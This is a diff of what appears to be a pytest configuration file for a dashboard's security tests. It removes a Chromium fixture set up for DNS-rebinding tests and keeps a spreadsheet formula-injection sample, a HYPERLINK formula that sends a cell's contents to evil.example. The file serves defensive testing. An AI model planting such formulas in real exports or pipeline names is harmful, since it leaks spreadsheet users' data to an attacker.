@@ -28,13 +28,6 @@ sys.path.insert(0, str(ROOT / "tests" / "dashboard"))
 sys.path.insert(0, str(Path(__file__).resolve().parent))
 
 DEMO_CONFIG = ROOT / "examples" / "demo.toml"
-CHROMIUM = "/usr/bin/chromium"
-CHROMIUM_ARGS = [
-    "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
-    "--disable-component-update", "--disable-sync",
-    # a rebinding attacker's name and a proxy's public name, both answering with 127.0.0.1
-    "--host-resolver-rules=MAP attacker.example 127.0.0.1, MAP dash.example.com 127.0.0.1",
-]
 
 # what an attacker plants through a pipeline name, an error, a tag or a cost export
 FORMULA_PIPELINE = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
@@ -182,24 +175,6 @@ def local(sec_template, tmp_path_factory):
     server.ds = ds
     yield server
     server.stop()
-
-
-def require_browser() -> None:
-    if not Path(CHROMIUM).exists():
-        if os.environ.get("PIPEPULSE_REQUIRE_BROWSER") == "1":
-            pytest.fail(f"{CHROMIUM} is missing and PIPEPULSE_REQUIRE_BROWSER=1: install Debian's chromium", pytrace=False)
-        pytest.skip(f"{CHROMIUM} is missing (install Debian's chromium to run the browser tests)")
-
-
-@pytest.fixture(scope="session")
-def browser():
-    require_browser()
-    from playwright.sync_api import sync_playwright
-
-    with sync_playwright() as p:
-        b = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
-        yield b
-        b.close()
 
 
 @pytest.fixture
